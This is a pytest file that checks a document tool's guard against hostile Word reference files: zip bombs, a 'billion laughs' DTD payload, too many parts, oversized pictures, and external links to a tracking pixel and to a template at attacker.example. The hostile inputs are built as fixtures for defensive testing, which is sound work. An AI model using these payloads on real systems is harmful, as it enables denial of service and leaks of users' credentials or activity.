"""Reference Word documents and attachments under attack: zip bombs, DTDs, outside content, huge pictures."""

import io
import os
import re
import zipfile
from pathlib import Path

import docx
import pytest
from render_fixtures import png

from minutes.document.tree import Document, Image, Metadata, Paragraph, Text
from minutes.errors import MinutesError
from minutes.writers import WRITERS, WriteOptions
from minutes.writers import docx_guard

MB = 1024 * 1024
IMAGE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"
TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
HYPERLINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
DOC = Document(Metadata(title="T"), [Paragraph([Text("the minutes")])])


def _reference(tmp_path: Path, picture: bool = False) -> dict[str, bytes]:
    """Return the parts of a python-docx reference document (with a picture in its header if asked)."""
    word = docx.Document()
    if picture:
        word.sections[0].header.paragraphs[0].add_run().add_picture(str(png(tmp_path / "logo.png")))
    saved = io.BytesIO()
    word.save(saved)
    package = zipfile.ZipFile(saved)
    return {name: package.read(name) for name in package.namelist()}


def _write(path: Path, parts: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> Path:
    """Write ``parts`` as a zip by hand."""
    with zipfile.ZipFile(path, "w", compression) as package:
        for name, data in parts.items():
            package.writestr(name, data)
    return path


def _render(ref: Path) -> tuple[bytes, list[str]]:
    options = WriteOptions(reference_doc=ref)
    return WRITERS["docx"](DOC, options), options.warnings


def _with_picture_part(tmp_path: Path, data: bytes) -> dict[str, bytes]:
    """Return a reference whose header picture (a part python-docx loads) holds ``data``."""
    parts = _reference(tmp_path, picture=True)
    media = next(name for name in parts if name.startswith("word/media/"))
    parts[media] = data
    return parts


def test_a_reference_part_that_inflates_past_the_limit_is_refused_before_python_docx_reads_it(tmp_path):
    ref = _write(tmp_path / "bomb.docx", _with_picture_part(tmp_path, bytes(60 * MB)))
    assert ref.stat().st_size < MB  # a small file ...
    with pytest.raises(MinutesError, match=r"bomb\.docx: refused: part word/media/image1\.png inflates to 60 MB "
                                           r"\(the limit is 50 MB a part\)"):
        _render(ref)


def test_a_reference_whose_parts_inflate_past_the_total_limit_is_refused(tmp_path):
    block = os.urandom(16 * 1024) + bytes(304 * 1024)  # compresses about 20 to 1: no part looks like a bomb
    parts = _with_picture_part(tmp_path, block * 128)  # 40 MB
    parts.update({f"word/media/pad{n}.bin": block * 128 for n in range(2)})
    with pytest.raises(MinutesError, match=r"total\.docx: refused: .* inflates to more than 100 MB"):
        _render(_write(tmp_path / "total.docx", parts))


def test_a_reference_part_compressed_like_a_zip_bomb_is_refused(tmp_path):
    ref = _write(tmp_path / "ratio.docx", _with_picture_part(tmp_path, bytes(5 * MB)))
    with pytest.raises(MinutesError, match=r"ratio\.docx: refused: part word/media/image1\.png is compressed more "
                                           r"than 100 to 1"):
        _render(ref)


def test_a_reference_with_too_many_parts_is_refused(tmp_path):
    parts = _reference(tmp_path)
    parts.update({f"customXml/pad{n}.xml": b"<a/>" for n in range(docx_guard.MAX_PARTS)})
    with pytest.raises(MinutesError, match=rf"many\.docx: refused: {len(parts)} parts .* limit is 1000"):
        _render(_write(tmp_path / "many.docx", parts))


def test_a_reference_file_larger_than_the_limit_is_refused_without_reading_it(tmp_path, monkeypatch):
    ref = _write(tmp_path / "big.docx", _reference(tmp_path), zipfile.ZIP_STORED)
    monkeypatch.setattr(docx_guard, "MAX_REFERENCE", ref.stat().st_size - 1)
    with pytest.raises(MinutesError, match=r"big\.docx: refused: the reference document is larger than"):
        _render(ref)


def test_an_ordinary_reference_document_passes_the_checks(tmp_path):
    data, warnings = _render(_write(tmp_path / "fine.docx", _reference(tmp_path, picture=True)))
    assert warnings == []
    assert "the minutes" in [p.text for p in docx.Document(io.BytesIO(data)).paragraphs]


LAUGHS = (b'<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
          b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>\n')


@pytest.mark.parametrize("part", ["word/styles.xml", "word/document.xml", "[Content_Types].xml",
                                  "word/_rels/document.xml.rels", "word/settings.xml"])
@pytest.mark.parametrize("codec", ["utf-8", "utf-16"])
def test_a_reference_part_with_a_dtd_is_refused_in_one_line(tmp_path, part, codec):
    parts = _reference(tmp_path)
    head, _, rest = parts[part].partition(b"?>\n")
    xml = head + b"?>\n" + LAUGHS + rest
    if codec == "utf-16":
        xml = xml.replace(b"UTF-8", b"UTF-16").decode().encode("utf-16")
    parts[part] = xml
    with pytest.raises(MinutesError, match=rf"dtd\.docx: refused: part {re.escape(part)} has a DTD") as caught:
        _render(_write(tmp_path / "dtd.docx", parts))
    assert "\n" not in str(caught.value)


def _with_part(tmp_path: Path, name: str, content_type: str, data: bytes) -> Path:
    """Return a reference with one more part, of ``content_type``, named in its content types."""
    parts = _reference(tmp_path)
    override = f'<Override PartName="/{name}" ContentType="{content_type}"/></Types>'.encode()
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", override)
    parts[name] = data
    return _write(tmp_path / "extra.docx", parts)


def test_a_dtd_in_a_part_that_is_xml_by_its_content_type_is_refused(tmp_path):
    ref = _with_part(tmp_path, "word/custom.bin", "application/vnd.example+xml", LAUGHS + b"<a>&lol3;</a>")
    with pytest.raises(MinutesError, match=r"extra\.docx: refused: part word/custom\.bin has a DTD"):
        _render(ref)


def test_an_html_part_with_its_doctype_is_not_taken_for_xml(tmp_path):
    ref = _with_part(tmp_path, "word/afchunk.htm", "text/html", b"<!DOCTYPE html><html><p>chunk</p></html>")
    data, warnings = _render(ref)
    assert warnings == [] and "the minutes" in [p.text for p in docx.Document(io.BytesIO(data)).paragraphs]


def _outside(tmp_path: Path) -> Path:
    """Return a reference whose header picture is fetched from a URL, with an attached template and a header link."""
    parts = _reference(tmp_path, picture=True)
    rels = "word/_rels/header1.xml.rels"
    rid = re.search(rb'Id="(rId\d+)"[^>]*relationships/image"', parts[rels]).group(1)
    parts[rels] = re.sub(rb'<Relationship Id="' + rid + rb'"[^>]*/>',
                         b'<Relationship Id="' + rid + b'" Type="' + IMAGE.encode() + b'" '
                         b'Target="http://tracker.example/pixel.png" TargetMode="External"/>'
                         b'<Relationship Id="rId90" Type="' + HYPERLINK.encode() + b'" '
                         b'Target="https://example.org/" TargetMode="External"/>', parts[rels])
    parts["word/header1.xml"] = parts["word/header1.xml"].replace(b'r:embed="' + rid, b'r:link="' + rid).replace(
        b"</w:p>", b'<w:hyperlink r:id="rId90"><w:r><w:t>our site</w:t></w:r></w:hyperlink></w:p>', 1)
    parts["word/settings.xml"] = re.sub(rb"(<w:settings[^>]*>)", rb'\1<w:attachedTemplate r:id="rId1"/>',
                                        parts["word/settings.xml"])
    parts["word/_rels/settings.xml.rels"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxml'
        b'formats.org/package/2006/relationships"><Relationship Id="rId1" Type="' + TEMPLATE.encode() + b'" '
        b'Target="file://attacker.example/share/Normal.dotm" TargetMode="External"/></Relationships>')
    return _write(tmp_path / "outside.docx", parts)


def test_outside_content_in_a_reference_is_dropped_with_a_warning_and_hyperlinks_stay(tmp_path):
    data, warnings = _render(_outside(tmp_path))
    package = zipfile.ZipFile(io.BytesIO(data))
    externals = [m for name in package.namelist() if name.endswith(".rels")
                 for m in re.findall(r'<Relationship [^>]*TargetMode="External"[^>]*/>', package.read(name).decode())]
    assert externals and all(HYPERLINK in m for m in externals)  # the header's link stays, nothing else
    assert "https://example.org/" in "".join(externals)
    assert not [name for name in package.namelist() if b"tracker.example" in package.read(name)]
    assert b"attachedTemplate" not in package.read("word/settings.xml")
    assert b"r:link" not in package.read("word/header1.xml")
    assert len(warnings) == 1
    assert "outside.docx: dropped 2 link(s) to outside content" in warnings[0]
    assert "http://tracker.example/pixel.png" in warnings[0] and "Normal.dotm" in warnings[0]
    word = docx.Document(io.BytesIO(data))
    assert "our site" in word.sections[0].header.paragraphs[0].text


def test_a_picture_larger_than_the_limit_is_not_read_and_its_caption_is_written(tmp_path, monkeypatch):
    big = png(tmp_path / "big.png")
    with big.open("r+b") as f:
        f.truncate(docx_guard.MAX_PICTURE + 1)  # sparse: a valid PNG header, then 50 MB of nothing
    opened = []
    real_open = Path.open
    monkeypatch.setattr(Path, "open", lambda self, *a, **k: opened.append(self) or real_open(self, *a, **k))
    options = WriteOptions(base_dir=tmp_path)
    doc = Document(Metadata(), [Image("big.png", [Text("The big photo")])])
    data = WRITERS["docx"](doc, options)
    package = zipfile.ZipFile(io.BytesIO(data))
    assert not any(n.startswith("word/media/") for n in package.namelist())
    assert options.warnings == ["big.png: not embedded: larger than 50 MB"]
    assert [p.text for p in docx.Document(io.BytesIO(data)).paragraphs] == ["The big photo"]
    assert big.resolve() not in [p.resolve() for p in opened]  # refused on its size, never opened


def test_a_picture_within_the_limit_is_embedded(tmp_path):
    png(tmp_path / "small.png")
    options = WriteOptions(base_dir=tmp_path)
    data = WRITERS["docx"](Document(Metadata(), [Image("small.png", [Text("small")])]), options)
    assert options.warnings == []
    assert any(n.startswith("word/media/") for n in zipfile.ZipFile(io.BytesIO(data)).namelist())
